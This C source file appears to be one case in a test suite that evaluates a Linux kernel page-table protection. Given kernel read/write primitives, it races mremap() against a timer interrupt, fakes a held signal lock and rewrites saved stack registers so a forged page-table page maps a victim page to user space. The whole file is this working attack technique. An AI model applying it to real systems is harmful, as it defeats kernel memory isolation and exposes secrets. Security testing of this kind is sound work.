// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attack on what an interrupted section will do when it goes on. mremap() moves
 * entries from table to table in one section. The process's own timer interrupts
 * it, and its handler waits for a lock that is made to look held: that of the
 * process's signals. Meanwhile the saved register that says where entries come
 * from is pointed at a page of the attacker's.
 */
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"
#include "pt_regs.h"

#define MOVER		"__move_ptes"	/* where page tables are protected */
#define MOVER_WITHOUT	"move_page_tables"
#define MOVER_SIZE	0x1000		/* at most */
#define INTERVAL	1000		/* microseconds */
#define MOVER_CPU	1
#define MOVED_PART	0x5d		/* and the next one */
#define MOVED_PAGES	509
#define STACK_PART	(4 << 10)	/* of the stack, with what mremap() uses */
#define ENOUGH		12		/* frames that were changed */
#define SECONDS		60
#define HOLD		5		/* milliseconds */
#define PATIENCE	50		/* likewise, for the mover to go on */
#define LAST_LOOK	300000		/* microseconds */

/* The bit by which nobody asks whose a page is ... */
#ifdef __x86_64__
#define LOCK_ALONE	0		/* nothing shows who waits */
#define PTE_SPECIAL	(1UL << 9)
#else
#define LOCK_ALONE	1		/* more if somebody waits */
#define PTE_SPECIAL	(1UL << 56)
#endif

/* Two places that differ by a page, so that no table is moved as a whole. */
static const int first_entry[] = { 1, 2 };

static struct {
	volatile int from;		/* which of the places */
	volatile unsigned long rounds;
	volatile bool ready, go, found;
	char text[SECRET_SIZE];
} *mover;

struct target {
	struct task task;
	struct kernel_page forged;
	uint64_t table[2], function, lock, entry;
	int held, changed;		/* handlers that waited, and frames, so far */
};

static char *place(int which)
{
	return (char *)user_room(MOVED_PART + which) + first_entry[which] * PAGE_SIZE;
}

/* A page ahead of it keeps the table when all of the rest is moved. */
static bool make_place(int which)
{
	volatile char *page = mmap(place(which) - first_entry[which] * PAGE_SIZE, PAGE_SIZE,
				   PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS |
				   MAP_FIXED_NOREPLACE, -1, 0);

	if (page == MAP_FAILED)
		return false;
	*page = 1;
	return true;
}

/* All of it is the zero page. */
static bool make_places(void)
{
	volatile char *page;
	int i;

	if (!make_place(0) || !make_place(1))
		return false;
	page = mmap(place(0), MOVED_PAGES * PAGE_SIZE, PROT_READ,
		    MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (page != (volatile char *)place(0))
		return false;
	madvise((void *)page, MOVED_PAGES * PAGE_SIZE, MADV_NOHUGEPAGE);
	for (i = 0; i < MOVED_PAGES; i++)
		(void)page[i * PAGE_SIZE];
	return true;
}

/* ... in a mapping that is said to be a driver's. */
static void take_text(const char *page)
{
	uint64_t vma;

	snprintf(mover->text, sizeof(mover->text), "%s", page);
	vma = find_vma(page);
	if (vma)
		kwrite64(vma + VMA_FLAGS, kread64(vma + VMA_FLAGS) | VM_PFNMAP);
	munmap((void *)page, PAGE_SIZE);
	mover->found = true;
	pause();
}

static void move_for_ever(void)
{
	size_t size = MOVED_PAGES * PAGE_SIZE;
	const volatile char *last;
	int from = 0;

	for (;; from = !from) {
		mover->from = from;
		if (mremap(place(from), size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
			   place(!from)) != place(!from))
			_exit(1);
		last = place(!from) + size - PAGE_SIZE;
		if (*last)
			take_text((const char *)last);
		mover->rounds++;
	}
}

static pid_t start_mover(void)
{
	pid_t pid;

	mover = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (pid)
		return pid;
	stay_on_cpu(MOVER_CPU);
	heed_alarms();
	if (make_places())
		mover->ready = true;
	while (!mover->go)
		usleep(1000);
	alarm_every(INTERVAL);
	move_for_ever();
	return 0;
}

static uint64_t now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static bool find_target(pid_t pid, struct target *target)
{
	char zero[PAGE_SIZE];
	struct slot slot;
	int i;

	for (i = 0; i < 2; i++) {
		if (kwalk((uint64_t)place(i), LEVEL_PTE, pid, &slot))
			return false;
		target->table[i] = slot.slot & -PAGE_SIZE;
	}
	target->function = ksymbol(is_protected() ? MOVER : MOVER_WITHOUT);
	if (!target->function || ktask(pid, &target->task) || !kernel_page(&target->forged))
		return false;
	memset(zero, 0, sizeof(zero));
	kwrite(target->forged.addr, zero, sizeof(zero));
	target->entry = (victim_phys() & ~(PAGE_SIZE - 1)) | PTE_USER_RW | PTE_SPECIAL;
	target->lock = find_signal_lock(&target->task);
	return target->lock;
}

/* Asleep: on an emulator a busy CPU delays each flush of the mover's TLB. */
static bool hold_lock(const struct target *target)
{
	uint32_t lock = 0;

	set_lock(target->lock, true);
	usleep(HOLD * 1000);
	kread(target->lock, &lock, sizeof(lock));
	return lock > LOCK_ALONE;
}

/* Sections alone: without protection there are none. */
static bool is_section(void)
{
	return !is_protected() || has_hit_section(MOVER_CPU);
}

static void write_entry(const struct target *target, int which, uint64_t value)
{
	int last = first_entry[which] + MOVED_PAGES - 1;

	kwrite64(target->forged.addr + last * sizeof(value), value);
}

/* The only entry that is not empty is the last one to be moved. */
static void prepare_page(const struct target *target)
{
	write_entry(target, mover->from, target->entry);
	write_entry(target, !mover->from, 0);
}

static void change_frame(struct target *target, uint64_t at, const uint64_t *frame)
{
	uint64_t table = target->table[mover->from];
	int i;

	for (i = 0; i < FRAME_GENERAL; i++) {
		if ((frame[i] & -PAGE_SIZE) != table)
			continue;
		kwrite64(at + i * sizeof(*frame), target->forged.addr + frame[i] % PAGE_SIZE);
		target->changed++;
	}
}

static bool is_frame(const struct target *target, const uint64_t *frame)
{
	return is_kernel_frame(frame) && frame[FRAME_IP] - target->function < MOVER_SIZE;
}

static void change_stack(struct target *target)
{
	static uint64_t words[STACK_PART / sizeof(uint64_t)];
	uint64_t part = target->task.stack + target->task.stack_size - sizeof(words);
	size_t i;

	kread(part, words, sizeof(words));
	for (i = 0; i + FRAME_WORDS <= STACK_PART / sizeof(*words); i++)
		if (is_frame(target, words + i))
			change_frame(target, part + i * sizeof(*words), words + i);
}

static void wait_for_round(void)
{
	unsigned long round = mover->rounds;
	uint64_t end = now_ms() + PATIENCE;

	while (mover->rounds - round < 2 && !mover->found && now_ms() < end)
		usleep(1000);
}

static void attack_once(struct target *target)
{
	if (hold_lock(target) && is_section()) {
		target->held++;
		prepare_page(target);
		change_stack(target);
	}
	set_lock(target->lock, false);
	wait_for_round();
}

static enum outcome change_registers(struct target *target)
{
	uint64_t end = now_ms() + SECONDS * 1000;

	while (!mover->found && target->changed < ENOUGH && now_ms() < end)
		attack_once(target);
	usleep(LAST_LOOK);
	if (!mover->found && !target->changed)
		return broken("no section was interrupted (%lu rounds, waited %d times)",
			      mover->rounds, target->held);
	return judge_secret(mover->text, 0);
}

enum outcome interrupted_registers(void)
{
	struct target target = { 0 };
	enum outcome outcome;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	stay_on_cpu(0);
	pid = start_mover();
	while (!mover->ready)
		usleep(1000);
	if (!find_target(pid, &target))
		return broken("no tables, no stack or no lock");
	mover->go = true;
	outcome = change_registers(&target);
	kill(pid, SIGKILL);
	return outcome;
}
